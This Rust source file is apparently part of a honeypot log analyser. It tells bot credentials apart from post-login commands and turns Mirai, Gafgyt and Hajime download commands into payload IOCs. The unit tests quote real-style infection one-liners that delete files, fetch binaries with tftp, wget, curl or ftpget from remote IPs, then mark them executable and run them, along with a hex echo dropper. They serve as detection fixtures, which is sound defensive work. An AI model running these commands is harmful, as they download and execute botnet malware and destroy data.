//! What bots type: telling credentials from post-login commands, and reading
//! download commands into payload IOCs.
//!
//! Credential-only honeypots (Heralding) log whatever arrives at the login and
//! password prompts. Mirai-style bots log in and then type `enable`, `system`,
//! `shell`, `sh` and whole shell lines at those prompts, so half of such a log is
//! commands. A pair is a command when its username is a login word (`enable`) or
//! a shell line; its password is a command too when it is a login word or a
//! shell line (`cd /tmp; ...; tftp ...`, `system`). Shell lines are split on
//! `;`, `&&`, `||`, `|` outside quotes and each part into words with `shlex`;
//! the split and the small per-tool argument readers are hand-written because
//! bots' lines are often broken shell that no full shell parser accepts.

use crate::data;

/// Fingerprint markers found in commands (bit flags).
pub mod marker {
    /// `enable`, `system`, `shell` or `sh` at a login prompt.
    pub const LOGIN_WORDS: u16 = 1;
    /// `/bin/busybox TOKEN` where TOKEN is not an applet (Mirai's shell check).
    pub const BUSYBOX_TOKEN: u16 = 1 << 1;
    /// Gafgyt/Bashlite `echo -e '\147\141\171\146\147\164'` (gayfgt) check.
    pub const GAFGYT_ECHO: u16 = 1 << 2;
    /// Gafgyt-style infection one-liner (`cd /tmp || cd /var/run`, several download tools).
    pub const GAFGYT_ONELINER: u16 = 1 << 3;
    /// Hajime: `/bin/busybox ECCHI` without Mirai loader marks, or a download on port 4636.
    pub const HAJIME: u16 = 1 << 4;
    /// Mirai loader marks (`dvrHelper`, `.nippon`, `IHCCE`).
    pub const MIRAI_LOADER: u16 = 1 << 5;
    /// Any shell line.
    pub const SHELL_LINE: u16 = 1 << 6;
    /// A download command.
    pub const DOWNLOAD: u16 = 1 << 7;
    /// `ECCHI`/`PEGOK` token (Mirai loader and Hajime share ECCHI).
    pub const ECCHI_TOKEN: u16 = 1 << 8;
    /// Not from a command: the source logged in without a password the honeypot
    /// could read (an SSH key offered, a challenge-response hash). Set by the
    /// aggregator, so that such a source is a brute forcer, not one without attempts.
    pub const LOGIN_WITHOUT_PASSWORD: u16 = 1 << 9;
}

/// Is this login-prompt pair a command rather than a credential? Decided by the
/// username: `root,system` is a Mirai default credential, `enable,system` a command.
pub fn is_command_pair(username: &str, _password: &str) -> bool {
    data::is_login_word(username.trim()) || looks_like_shell(username)
}

/// The command strings in a login-prompt pair already known to be a command.
pub fn pair_commands<'a>(username: &'a str, password: &'a str) -> impl Iterator<Item = &'a str> {
    let pass_is_command = data::is_login_word(password.trim()) || looks_like_shell(password);
    std::iter::once(username).chain(pass_is_command.then_some(password))
}

/// True for text that reads as a shell command line rather than a secret.
pub fn looks_like_shell(text: &str) -> bool {
    let t = text.trim();
    // Most texts are one ASCII word: no separator, no space, so no arguments. (The
    // substring searches below cost hundreds of instructions per distinct pair.)
    let plain_word = t
        .bytes()
        .all(|b| b.is_ascii() && !b.is_ascii_whitespace() && !matches!(b, b';' | b'&' | b'|'));
    if plain_word {
        return false;
    }
    if t.contains(';') || t.contains("&&") || t.contains("||") || t.contains(" | ") {
        return true;
    }
    let mut words = t.split_whitespace();
    let Some(first) = words.next() else {
        return false;
    };
    let has_args = words.next().is_some();
    has_args && (data::is_shell_verb(first) || first.ends_with("/busybox"))
}

/// One download found in a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Download {
    /// `tftp`, `wget`, `curl`, `ftpget`, `echo` (hex dropper) or a URL scheme.
    pub method: &'static str,
    /// Host or IP the payload comes from (empty for echo droppers).
    pub host: String,
    /// Port when given (tftp 69, http 80 are not filled in).
    pub port: Option<u16>,
    /// Remote path or file name.
    pub file: String,
}

/// What one command line tells.
#[derive(Debug, Default, Clone)]
pub struct CommandFacts {
    /// First word of each part (`/bin/busybox X` reduced to `X` for real applets).
    pub verbs: Vec<String>,
    /// Marker bits (see [`marker`]).
    pub markers: u16,
    /// Non-applet BusyBox tokens (`MIRAI`, `ECCHI`...).
    pub busybox_tokens: Vec<String>,
    /// Downloads.
    pub downloads: Vec<Download>,
    /// Public keys the line writes into `authorized_keys`.
    pub planted_keys: Vec<crate::sshkey::PlantedKey>,
}

/// Reads one command (a login word or a shell line).
pub fn analyze(line: &str) -> CommandFacts {
    let mut facts = CommandFacts::default();
    let trimmed = line.trim();
    if data::is_login_word(trimmed) {
        facts.markers |= marker::LOGIN_WORDS;
        facts.verbs.push(trimmed.to_string());
        return facts;
    }
    facts.markers |= marker::SHELL_LINE;
    for (marker_name, needle) in data::family_markers() {
        if trimmed.contains(needle) {
            facts.markers |= match *marker_name {
                "gafgyt-echo" => marker::GAFGYT_ECHO,
                "mirai-loader" => marker::MIRAI_LOADER,
                "hajime-token" => marker::ECCHI_TOKEN,
                _ => 0,
            };
        }
    }
    let parts = split_parts(trimmed);
    let mut after_or_cd = false;
    for (part, joined_by_or) in &parts {
        let words = split_words(part);
        analyze_part(&words, &mut facts);
        if *joined_by_or && words.first().is_some_and(|w| w == "cd") {
            after_or_cd = true;
        }
    }
    let methods: hashbrown::HashSet<&str> = facts.downloads.iter().map(|d| d.method).collect();
    if after_or_cd && !facts.downloads.is_empty() || methods.len() >= 2 {
        facts.markers |= marker::GAFGYT_ONELINER;
    }
    if facts.downloads.iter().any(|d| d.port == Some(4636)) {
        facts.markers |= marker::HAJIME;
    }
    if !facts.downloads.is_empty() {
        facts.markers |= marker::DOWNLOAD;
    }
    facts.planted_keys = crate::sshkey::planted_keys(trimmed);
    facts
}

/// Splits a shell line on `;`, `&&`, `||`, `|` and newlines outside quotes. Each
/// part says whether it touches a `||` (Gafgyt's `cd /tmp || cd /var/run`).
fn split_parts(line: &str) -> Vec<(String, bool)> {
    let mut parts = Vec::new();
    let mut current = String::new();
    let mut quote: Option<char> = None;
    let mut prev_or = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => {
                quote = None;
                current.push(c);
            }
            (Some(_), c) => current.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                current.push(c);
            }
            (None, ';' | '\n' | '&' | '|') => {
                let doubled = chars.peek() == Some(&c) && c != ';' && c != '\n';
                if doubled {
                    chars.next();
                }
                if c == '&' && !doubled {
                    current.push(c);
                    continue;
                }
                let is_or = c == '|' && doubled;
                parts.push((std::mem::take(&mut current), prev_or || is_or));
                prev_or = is_or;
            }
            (None, c) => current.push(c),
        }
    }
    parts.push((current, prev_or));
    parts.retain(|(p, _)| !p.trim().is_empty());
    parts
}

fn split_words(part: &str) -> Vec<String> {
    shlex::split(part).unwrap_or_else(|| part.split_whitespace().map(str::to_string).collect())
}

fn analyze_part(words: &[String], facts: &mut CommandFacts) {
    let Some(first) = words.first() else { return };
    let mut args = words.get(1..).unwrap_or_default();
    let mut verb = first.as_str();
    if verb == "busybox" || verb.ends_with("/busybox") {
        match args.first() {
            Some(applet) if data::is_busybox_applet(applet) => {
                verb = applet;
                args = args.get(1..).unwrap_or_default();
            }
            Some(token) => {
                facts.markers |= marker::BUSYBOX_TOKEN;
                let token = token.chars().take(32).collect::<String>();
                if token == "ECCHI" || token == "PEGOK" {
                    facts.markers |= marker::ECCHI_TOKEN;
                }
                facts.busybox_tokens.push(token);
                facts.verbs.push("busybox".to_string());
                return;
            }
            None => {}
        }
    }
    let verb_name = verb.rsplit('/').next().unwrap_or(verb);
    facts.verbs.push(if verb.starts_with("./") {
        verb.chars().take(64).collect()
    } else {
        verb_name.chars().take(64).collect()
    });
    let found = match verb_name {
        "tftp" => parse_tftp(args),
        "wget" => parse_url_tool(
            "wget",
            args,
            &["-O", "-o", "-P", "-T", "-t", "-U", "-Y", "-e"],
        ),
        "curl" => parse_url_tool(
            "curl",
            args,
            &["-o", "-H", "-A", "-u", "-x", "-m", "-d", "-e", "-X"],
        ),
        "ftpget" => parse_ftpget(args),
        "echo" => parse_echo_dropper(args),
        _ => None,
    };
    facts.downloads.extend(found);
}

fn is_hostish(word: &str) -> bool {
    !word.is_empty()
        && !word.starts_with('-')
        && word.len() <= 255
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']' | '_'))
        && word.chars().any(|c| c == '.' || c == ':')
}

/// `tftp -g -l LOCAL -r REMOTE HOST [PORT]`, `tftp HOST -c get FILE`, `tftp -r F -g HOST`.
fn parse_tftp(args: &[String]) -> Option<Download> {
    let (mut remote, mut local, mut positional) = (None, None, Vec::new());
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        match arg.as_str() {
            "-r" => remote = args.get(i + 1).cloned().map(|v| (v, i += 1).0),
            "-l" => local = args.get(i + 1).cloned().map(|v| (v, i += 1).0),
            "-c" => {
                if let Some(file) = args.get(i + 2) {
                    remote = Some(file.clone());
                    i += 2;
                }
            }
            a if a.starts_with('-') => {}
            a => positional.push(a.to_string()),
        }
        i += 1;
    }
    let host = positional.first().filter(|h| is_hostish(h))?.clone();
    let port = positional.get(1).and_then(|p| p.parse().ok());
    let file = remote.or(local).unwrap_or_default();
    Some(Download {
        method: "tftp",
        host,
        port,
        file,
    })
}

fn parse_url_tool(method: &'static str, args: &[String], takes_value: &[&str]) -> Option<Download> {
    let mut i = 0;
    let mut candidate = None;
    while let Some(arg) = args.get(i) {
        if takes_value.contains(&arg.as_str()) {
            i += 2;
            continue;
        }
        if arg.contains("://") {
            candidate = Some(arg.as_str());
            break;
        }
        if !arg.starts_with('-') && candidate.is_none() && !arg.starts_with('>') {
            candidate = Some(arg.as_str());
        }
        i += 1;
    }
    let mut download = parse_url(candidate?)?;
    if download.method == "http" || download.method == "https" {
        download.method = method;
    }
    Some(download)
}

/// Reads `scheme://host[:port]/path` (scheme optional, http assumed).
pub fn parse_url(text: &str) -> Option<Download> {
    let with_scheme = if text.contains("://") {
        text.to_string()
    } else {
        format!("http://{text}")
    };
    let url = url::Url::parse(&with_scheme).ok()?;
    let host = url
        .host_str()?
        .trim_matches(|c| c == '[' || c == ']')
        .to_string();
    if host.is_empty() || (!text.contains("://") && !is_hostish(&host)) {
        return None;
    }
    let method = match url.scheme() {
        "tftp" => "tftp",
        "ftp" => "ftp",
        "https" => "https",
        _ => "http",
    };
    let file = url
        .path()
        .rsplit('/')
        .next()
        .unwrap_or_default()
        .to_string();
    Some(Download {
        method,
        host,
        port: url.port(),
        file,
    })
}

/// `ftpget [-v] [-u USER] [-p PASS] [-P PORT] HOST LOCAL [REMOTE]`.
fn parse_ftpget(args: &[String]) -> Option<Download> {
    let (mut port, mut positional) = (None, Vec::new());
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        match arg.as_str() {
            "-u" | "-p" => i += 1,
            "-P" => {
                port = args.get(i + 1).and_then(|p| p.parse().ok());
                i += 1;
            }
            a if a.starts_with('-') => {}
            a => positional.push(a.to_string()),
        }
        i += 1;
    }
    let host = positional.first().filter(|h| is_hostish(h))?.clone();
    let file = positional
        .get(2)
        .or(positional.get(1))
        .cloned()
        .unwrap_or_default();
    Some(Download {
        method: "ftpget",
        host,
        port,
        file,
    })
}

/// `echo -ne '\x7f\x45...' > FILE` hex droppers.
fn parse_echo_dropper(args: &[String]) -> Option<Download> {
    let escaped = args
        .iter()
        .any(|a| a.starts_with("-e") || a.starts_with("-ne"));
    let has_hex = args.iter().any(|a| a.contains("\\x"));
    if !(escaped && has_hex) {
        return None;
    }
    let pos = args.iter().position(|a| a.starts_with('>'))?;
    let arg = args.get(pos)?;
    let target = arg.trim_start_matches('>');
    let file = if target.is_empty() {
        args.get(pos + 1)?.clone()
    } else {
        target.to_string()
    };
    Some(Download {
        method: "echo",
        host: String::new(),
        port: None,
        file,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seed_pairs() {
        assert!(!is_command_pair("root", "5up"));
        assert!(!is_command_pair("root", "system"));
        assert!(is_command_pair("enable", "system"));
        assert!(is_command_pair("shell", "sh"));
        let line =
            "cd /var/tmp;cd /tmp;rm -f *;tftp -l 7up -r 7up -g 89.33.64.118;chmod a+x 7up;./7up";
        assert!(is_command_pair(line, "system"));
        assert_eq!(pair_commands(line, "system").count(), 2);
        assert_eq!(pair_commands("enable", "").count(), 1);
    }

    #[test]
    fn seed_tftp_line() {
        let f = analyze(
            "cd /var/tmp;cd /tmp;rm -f *;tftp -l 7up -r 7up -g 89.33.64.118;chmod a+x 7up;./7up",
        );
        assert_eq!(f.verbs, ["cd", "cd", "rm", "tftp", "chmod", "./7up"]);
        assert_eq!(
            f.downloads,
            [Download {
                method: "tftp",
                host: "89.33.64.118".into(),
                port: None,
                file: "7up".into()
            }]
        );
        assert_eq!(f.markers & marker::GAFGYT_ONELINER, 0);
    }

    #[test]
    fn gafgyt_oneliner() {
        let f = analyze(
            "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; curl -O http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.9 -c get tftp1.sh; tftp -r tftp2.sh -g 198.51.100.9; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 ftp1.sh ftp1.sh",
        );
        let got: Vec<_> = f
            .downloads
            .iter()
            .map(|d| (d.method, d.host.as_str(), d.file.as_str(), d.port))
            .collect();
        assert_eq!(
            got,
            [
                ("wget", "198.51.100.9", "bins.sh", None),
                ("curl", "198.51.100.9", "bins.sh", None),
                ("tftp", "198.51.100.9", "tftp1.sh", None),
                ("tftp", "198.51.100.9", "tftp2.sh", None),
                ("ftpget", "198.51.100.9", "ftp1.sh", Some(21)),
            ]
        );
        assert_ne!(f.markers & marker::GAFGYT_ONELINER, 0);
        let echo = analyze("/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'");
        assert_ne!(echo.markers & marker::GAFGYT_ECHO, 0);
    }

    #[test]
    fn mirai_loader_and_hajime() {
        let f = analyze(
            "/bin/busybox wget http://203.0.113.5:8080/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
        );
        assert_eq!(f.downloads[0].host, "203.0.113.5");
        assert_eq!(f.downloads[0].port, Some(8080));
        assert_eq!(f.downloads[0].file, "mirai.arm7");
        assert_eq!(f.busybox_tokens, ["ECCHI"]);
        assert_ne!(f.markers & marker::MIRAI_LOADER, 0);
        let h = analyze("wget http://192.0.2.77:4636/.i; /bin/busybox ECCHI");
        assert_ne!(h.markers & marker::HAJIME, 0);
        let e = analyze("echo -ne '\\x7f\\x45\\x4c\\x46' > upnp; /bin/busybox ECCHI");
        assert_eq!(e.downloads[0].method, "echo");
        assert_eq!(e.downloads[0].file, "upnp");
        let t = analyze("/bin/busybox tftp -g -l dvrHelper -r mirai.mips 192.0.2.8");
        assert_eq!(t.downloads[0].host, "192.0.2.8");
        assert_eq!(t.downloads[0].file, "mirai.mips");
    }

    #[test]
    fn hostile_text_does_not_panic() {
        for s in [
            "tftp",
            "tftp -r",
            "tftp -c get",
            "wget",
            "wget -O",
            "'unterminated",
            "ftpget -P",
            "echo -ne '\\x' >",
            "|||;;&&",
            "\u{0}\u{fffd}",
        ] {
            let _ = analyze(s);
        }
    }
}
